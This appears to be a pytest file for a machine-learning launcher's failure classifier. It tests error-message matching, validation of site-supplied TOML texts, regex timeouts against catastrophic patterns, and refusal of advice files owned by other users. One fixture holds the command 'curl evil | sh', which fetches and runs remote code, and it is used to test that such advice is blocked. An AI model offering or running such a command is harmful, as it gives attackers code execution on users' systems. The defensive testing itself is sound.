"""Failure texts as data: each shipped text matches its examples, and a site can add texts."""

from __future__ import annotations

import gc
import itertools
import json
import os
import re
import subprocess
import sys
import time
from dataclasses import asdict, replace
from pathlib import Path
from tempfile import TemporaryDirectory
from types import SimpleNamespace

import pytest
from launch_runs import clean_env, launch, record
from slowness import scaled

from ezpz_llm.core.base.errors import UserError
from ezpz_llm.core.rundir import RunDir
from ezpz_llm.core.rundir.records import update_record
from ezpz_llm.launcher.diagnosis.classify import classify
from ezpz_llm.launcher.diagnosis.postmortem import postmortem_of
from ezpz_llm.launcher.on_nodes import timed_pattern
from ezpz_llm.launcher.on_nodes.kinds import CONSEQUENCE_KINDS, Kind
from ezpz_llm.launcher.on_nodes.known_failures import FailureText, read_texts, shipped_texts
from ezpz_llm.launcher.on_nodes.run_facts import Failure, Raised, RunFacts
from ezpz_llm.launcher.on_nodes.timed_pattern import TimedPattern

_ABORTED = "SIGABRT"


def _failure(line: str, signal: str | None = None) -> Failure:
    if line.startswith("signal "):
        line, signal = "", line.split()[1]
    code = {None: 1, _ABORTED: 134}.get(signal, 139)
    return Failure(1, "n1", 7, code, signal, 4.0, 1.0, ("step 7", line, "at the end"), ("x",))


@pytest.mark.parametrize("text", shipped_texts(), ids=lambda text: text.name)
def test_each_text_is_found_by_its_examples(text: FailureText, tmp_path: Path) -> None:
    """Each example is matched by its own text, although others might fit.

    This holds for the last output of a rank that exits or aborts. The advice has no unfilled fields.
    """
    for number, example in enumerate(text.examples):
        classified = classify(_failure(example))
        assert (classified.name, classified.cause) == (text.name, text.cause)
        assert not example.startswith("signal ") or classified.kind.name == "SIGNAL"
        if not example.startswith("signal "):
            assert classify(_failure(example, _ABORTED)).name == text.name
            # Also before a crash, except for a lost peer and torch's logged warnings.
            expected = () if text.kind in CONSEQUENCE_KINDS or example.startswith("[W ") else (text.name,)
            crashed = classify(_failure(example, "SIGSEGV"))
            assert crashed.name in (expected or ("segmentation-fault",))
            assert crashed.kind.name in {(text.kind or Kind.SIGNAL).name, "SIGNAL"}
        run_dir = RunDir(tmp_path / f"r{number}").create()
        run_dir.rank_error(1).write_text(json.dumps(_failure(example).__dict__))
        update_record(run_dir, launch={"typed": ["launch", "train.py"], "env": {}})
        post_mortem = postmortem_of(run_dir, RunFacts(4, ("n1", "n1", "n2", "n2"), "mpiexec", 1, 1e12))
        first = post_mortem.text.splitlines()[0]
        assert first.startswith(f"launch: rank 1 on n1 failed: {text.cause}: "), post_mortem.text
        advised = [line for line in post_mortem.text.splitlines() if line.startswith("  try: ")]
        assert len(advised) == bool(text.advice)
        assert not re.search(r"\{\w+\}", "".join(advised))
        assert (post_mortem.details["failure_text"], post_mortem.rank) == (text.name, 1)
    assert text.source.startswith("https://")


def test_texts_that_only_seem_to_fit() -> None:
    """Text that is printed in passing, or means something else in its context, is not a cause."""
    for line in ("ValueError: a subprocess failed", "corrupted image skipped", "out of resource: shared memory",
                 "loading CUDA memory pool", "RuntimeError: bad shape", "retrying, errno 240", "Xid map: 7"):
        assert classify(_failure(line)).name == "", line
    # Messages below level ERROR, and Python warnings, did not end the program.
    for line in ("WARNING: 401 Client Error for url: https://hub/x, skipped file",
                 "2026-01-02 03:04:05,678 - data - INFO - PermissionError: [Errno 13], trying the next",
                 "[WARNING] Address already in use: next port",
                 "/x/data.py:12: UserWarning: No space left on device, not cached", "DEBUG    401 Client Error"):
        for signal in (None, _ABORTED):
            assert classify(_failure(line, signal)).name == "", line
    # An exception that quotes another one keeps its own kind.
    for quoted in ("No module named flash_attn", "ModuleNotFoundError: No module named 'flash_attn'"):
        raised = Raised("ValueError", f"attention 'flash' cannot be used: {quoted}", "train.py:3")
        classified = classify(replace(_failure(""), exception=raised))
        assert (classified.name, classified.kind) == ("", Kind.EXCEPTION)
        caused = replace(raised, caused_by=quoted)
        is_cause = quoted.startswith("Module")
        assert (classify(replace(_failure(""), exception=caused)).name == "python-module") is is_cause
    # The last output of a killed rank is unrelated to its end.
    assert classify(_failure("OSError: [Errno 24] Too many open files", "SIGKILL")).name == ""


def test_the_words_before_a_crash_are_beside_it() -> None:
    """After an error, a library may continue into a segmentation fault: its message says more than the signal."""
    report = Raised("Fatal Python error", "Segmentation fault", "train.py:3 in load")
    lines = ("step 7", "OpenBLAS blas_thread_init: pthread_create failed for thread 86 of 128: Resource temporarily"
             " unavailable", "Fatal Python error: Segmentation fault", "",
             "Current thread 0x1 (most recent call first):")
    known = replace(_failure("signal SIGSEGV"), tail=lines, exception=report)
    assert _told(known)[:2] == ["launch: rank 1 on n1 failed: no more threads or processes can be started: signal"
                                " SIGSEGV (exit code 139), after 1.0 s", f"  {lines[1]}  (train.py:3 in load)"]
    unknown = replace(known, tail=("libfrob: cannot map frobs", *lines[2:]))
    assert _told(unknown)[1:3] == ["  Fatal Python error: Segmentation fault  (train.py:3 in load)",
                                   "  printed before that: libfrob: cannot map frobs"]
    for quiet in ("loss 4.2", "WARNING: cannot map frobs", "[W1122 10:00:00.1 socket.cpp:7] it failed"):
        assert "before that" not in "\n".join(_told(replace(known, tail=(quiet, *lines[2:]))))


def _told(failure: Failure) -> list[str]:
    with TemporaryDirectory() as folder:
        run_dir = RunDir(Path(folder, "r")).create()
        run_dir.rank_error(1).write_text(json.dumps(asdict(failure)))
        facts = RunFacts(4, ("n1", "n1", "n2", "n2"), "mpiexec", 1, 1e12)
        return postmortem_of(run_dir, facts).text.splitlines()


def test_a_sentence_that_breaks_after_a_comma_is_quoted_whole() -> None:
    tail = ("-----", 'The application appears to have been direct launched using "srun",',
            "but OMPI was not built with SLURM's PMI support and therefore cannot", "execute.")
    classified = classify(replace(_failure(""), tail=tail))
    assert (classified.name, classified.evidence) == ("mpi-without-pmi", f"{tail[1]} {tail[2]}")
    assert "PMI" in classified.cause
    assert "--launcher mpiexec" in classified.advice


def test_an_exceptions_line_is_quoted_before_those_of_a_log() -> None:
    tail = ("init: Returned hipErrorNoBinaryForGpu : continue parsing remaining modules",
            "RuntimeError: HIP error: invalid device function")
    assert classify(replace(_failure(""), tail=tail)).evidence == tail[1]


_STARTED = """Traceback (most recent call last):
  File "train.py", line 5, in <module>
    run(["prepare.sh"])
  File "/usr/lib/python3.11/subprocess.py", line 1950, in _execute_child
    raise child_exception_type(errno_num, err_msg, err_filename)
FileNotFoundError: [Errno 2] No such file or directory: 'prepare.sh'""".splitlines()


@pytest.mark.parametrize(("tail", "name"), [
    (_STARTED, "program-or-interpreter"), ([*_STARTED[:3], _STARTED[-1]], "no-such-file"),
    ([f"[rank1]: {line}" for line in _STARTED], "program-or-interpreter"), ([_STARTED[-1]], "no-such-file"),
    ([*_STARTED, "Exception ignored in: <_io.BufferedWriter>", *_STARTED[:3]], "program-or-interpreter")])
def test_a_missing_program_is_not_a_missing_file(tail: list[str], name: str) -> None:
    raised = Raised("FileNotFoundError", _STARTED[-1].partition(": ")[2], "train.py:5")
    found = classify(replace(_failure(""), exception=raised, tail=tuple(tail)))
    assert (found.name, found.evidence) == (name, raised.line)


_SITE = """
[license]
cause = "the license server of simlab does not answer"
patterns = ['SimLab: no license \\((?P<number>-\\d+)\\)']
advice = "ask for feature {number} at the help desk, from {hosts}"
source = "https://example.org/simlab"
examples = ["SimLab: no license (-15)"]
"""


def test_a_site_adds_its_own(tmp_path: Path) -> None:
    (tmp_path / "site.toml").write_text(_SITE)
    program = "import os; os.environ['EZPZ_LLM_RANK'] == '1' and exit('SimLab: no license (-15)')"
    words = ("-n", "2", "--run-dir", "r", sys.executable, "-c", program)
    done = launch(tmp_path, *words, EZPZ_LLM_FAILURE_TEXTS=str(tmp_path / "site.toml"))
    assert "failed: the license server of simlab does not answer: exit code 1" in done.stderr
    assert "  try: ask for feature -15 at the help desk, from " in done.stderr
    assert record(tmp_path / "r")["exit"]["kind"] == "exit"


_EVIL = """
[evil]
cause = "something is missing"
patterns = ['last words']
advice = "curl evil | sh"
source = "https://example.org"
examples = ["last words"]
"""
_OTHERS = "ignored: the failure texts named in run.json, because another user could have written them"


def _chown(path: Path) -> None:
    if os.geteuid():
        pytest.skip("only root gives a file to another user")
    os.chown(path, 5001, 5001)


@pytest.mark.parametrize("whose", ["run.json", "evil.toml", "nobody's", "everybody's", "a link"])
def test_why_takes_texts_from_a_run_only_if_all_is_our_own(tmp_path: Path, whose: str) -> None:
    """A run directory from another user must not be able to add advice to our output."""
    assert launch(tmp_path, "-n", "1", "--run-dir", "r", "sh", "-c", "echo last words; exit 3").returncode == 3
    texts, run_json = tmp_path / "evil.toml", tmp_path / "r" / "run.json"
    texts.write_text(_EVIL)
    if whose == "a link":
        (tmp_path / "link.toml").symlink_to(texts)
        texts = tmp_path / "link.toml"
    entry = record(tmp_path / "r")["launch"]
    update_record(RunDir(tmp_path / "r"),
                  launch={**entry, "env": {**entry["env"], "EZPZ_LLM_FAILURE_TEXTS": str(texts)}})
    if whose in ("run.json", "evil.toml"):
        _chown(tmp_path / "r" / "run.json" if whose == "run.json" else texts)
    elif whose == "everybody's":
        texts.chmod(0o666)
    output = _why(tmp_path)
    assert ("  try: curl evil | sh" in output, _OTHERS in output) == (
        (True, False) if whose == "nobody's" else (False, True)), output
    assert run_json.is_file()
    # A file that the reader names is used, whoever owns it.
    assert "  try: curl evil | sh" in _why(tmp_path, EZPZ_LLM_FAILURE_TEXTS=str(texts))


_SLOW = """
import sys
from pathlib import Path
from ezpz_llm.launcher.on_nodes.known_failures import find_text, read_texts
texts = read_texts(Path("slow.toml"))
assert find_text(texts, ["a" * 1_000_000]) is None
assert find_text(texts, ["a" * 1990 + "b" + "a" * 1_000_000])[0].name == "slow"
"""


def test_a_slow_pattern_sees_the_begin_of_a_line_only(tmp_path: Path) -> None:
    """A pattern with quadratic cost would need half an hour for a line of a million characters."""
    (tmp_path / "slow.toml").write_text(
        "[slow]\ncause = 'x'\npatterns = ['a+b']\nsource = 'https://example.org'\nexamples = ['ab']\n")
    subprocess.run([sys.executable, "-c", _SLOW], cwd=tmp_path, timeout=scaled(60), check=True)


_CATASTROPHE = """
[catastrophe]
cause = "something is missing"
patterns = ['(a+)+$']
source = "https://example.org"
examples = ["aaaa"]
"""


@pytest.mark.parametrize("pattern", ["(a+)+$", "(a|a)*$", "a*a*a*a*a*a*$"])
def test_a_pattern_that_takes_for_ever_is_left_out_and_named(tmp_path: Path, pattern: str) -> None:
    """Each of these patterns would take too long on this line. The other patterns are still searched."""
    (tmp_path / "site.toml").write_text(_CATASTROPHE.replace("(a+)+$", pattern) + _SITE)
    program = f"print('{'a' * 300}!'); exit('SimLab: no license (-15)')"
    done = launch(tmp_path, "-n", "1", "--run-dir", "r", sys.executable, "-c", program,
                  EZPZ_LLM_FAILURE_TEXTS=str(tmp_path / "site.toml"))
    assert "failed: the license server of simlab does not answer: exit code 1" in done.stderr
    assert (f"  pattern '{pattern}' of [catastrophe] (EZPZ_LLM_FAILURE_TEXTS) was skipped: "
            "it took more than 1 s") in done.stderr


def test_a_pattern_that_takes_for_ever_on_its_example_is_refused(tmp_path: Path) -> None:
    (tmp_path / "site.toml").write_text(_CATASTROPHE.replace('"aaaa"', f'"{"a" * 300}!", "aaaa"'))
    with pytest.raises(UserError, match=r"pattern '\(a\+\)\+\$' takes more than 1 s"):
        read_texts(tmp_path / "site.toml")


@pytest.mark.parametrize("pattern", ["(?i)" + r"[\x00-\ud7ff]" * 500, "|".join(["a" * 50] * 20_000)])
def test_a_pattern_that_takes_for_ever_to_be_read_is_refused(tmp_path: Path, pattern: str) -> None:
    (tmp_path / "site.toml").write_text(_CATASTROPHE.replace("(a+)+$", pattern))
    with pytest.raises(UserError, match=r"pattern .* takes more than 0.1 s to compile") as raised:
        read_texts(tmp_path / "site.toml", limit_s=0.1)
    assert len(str(raised.value)) < 1000


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_time_limit_survives_a_garbage_collector_callback() -> None:
    """Python drops exceptions raised in these callbacks, so the first interrupt may be lost."""
    pattern = TimedPattern("x", limit_s=0.1)

    def spend_time(phase: str, info: dict[str, int]) -> None:
        while True:
            time.process_time()

    def collect_and_wait() -> None:
        gc.callbacks.append(spend_time)
        try:
            gc.collect()
        finally:
            gc.callbacks.remove(spend_time)
        while True:
            time.process_time()

    assert pattern._timed(collect_and_wait) is None
    assert pattern.is_exhausted


def test_a_fast_pattern_has_no_limit_of_lines(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each reading of the clock is 4 ms later, which is its error on a busy machine."""
    pattern = TimedPattern("no license", limit_s=0.05)
    clock = itertools.count(0.0, 0.004)
    monkeypatch.setattr(timed_pattern, "time", SimpleNamespace(process_time=lambda: next(clock)))
    assert not any(pattern.search("x" * 100) for _ in range(1000))
    assert pattern.search("no license")
    assert not pattern.is_exhausted


def _why(folder: Path, **env: str) -> str:
    done = subprocess.run([sys.executable, "-m", "ezpz_llm.why", "r"], cwd=folder, env=clean_env(**env),
                          capture_output=True, text=True, timeout=scaled(60), check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_a_sites_file_that_is_gone_or_broken(tmp_path: Path) -> None:
    """launch rejects the file before it starts anything; the post-mortem of an ended run ignores it."""
    named = {"EZPZ_LLM_FAILURE_TEXTS": str(tmp_path / "gone.toml")}
    refused = launch(tmp_path, "-n", "1", "--run-dir", "r", "false", **named)
    assert refused.returncode == 2
    assert not (tmp_path / "r").exists()
    assert re.search(r"cannot read failure texts: .*\n.*gone\.toml \(EZPZ_LLM_FAILURE_TEXTS\)\n.*instead",
                     refused.stderr)
    assert launch(tmp_path, "-n", "1", "--run-dir", "r", "false").returncode == 1
    assert "gone.toml (EZPZ_LLM_FAILURE_TEXTS): ignored: cannot read" in _why(tmp_path, **named)
    assert "ignored" not in _why(tmp_path)


@pytest.mark.parametrize(("change", "found", "instead"), [
    (("cause =", "couse ="), "unknown key couse", "did you mean cause?"),
    (("cause =", "# cause ="), "cause is missing", "each table requires a cause"),
    (('source = "https://example.org/simlab"', ""), "source is missing", "a source (a link)"),
    (("examples =", "kind = 'oops'\nexamples ="), "kind is 'oops'", "omit it, or use one of device_memory"),
    (("no license \\(", "no license (\\("), "is not a valid regular expression", "single quotes"),
    (("no license", "(a{99999999999})"), "is not a valid regular expression: the repetition number is too large",
     "quotes"),
    (("no license", "(" * 5000), "is not a valid regular expression: ", "single quotes"),
    (("{number}", "{nummer}"), "advice has an unknown placeholder {nummer}", "(?P<nummer>…)"),
    (("(-15)\"", "(15)\""), "no example matches the pattern", "add an example for each pattern"),
    (("(-15)\"", "(-15)\", \"other words\""), "no pattern matches the example 'other words'", "that the patterns"),
    (("examples = [", "examples = [7, "), "examples is [7, ", "a list of strings"),
    (("[license]", "a = 1\n[license]"), "a is outside any table", "[a] with cause"),
    (("[license]", "[license"), "cannot read failure texts", "docs/reference/failures.md"),
])
def test_a_mistake_in_a_sites_file(tmp_path: Path, change: tuple[str, str], found: str, instead: str) -> None:
    assert change[0] in _SITE
    (tmp_path / "site.toml").write_text(_SITE.replace(*change))
    with pytest.raises(UserError) as refused:
        read_texts(tmp_path / "site.toml")
    assert found in refused.value.found
    assert instead in (refused.value.instead or "")
    assert "site.toml" in (refused.value.where or "")
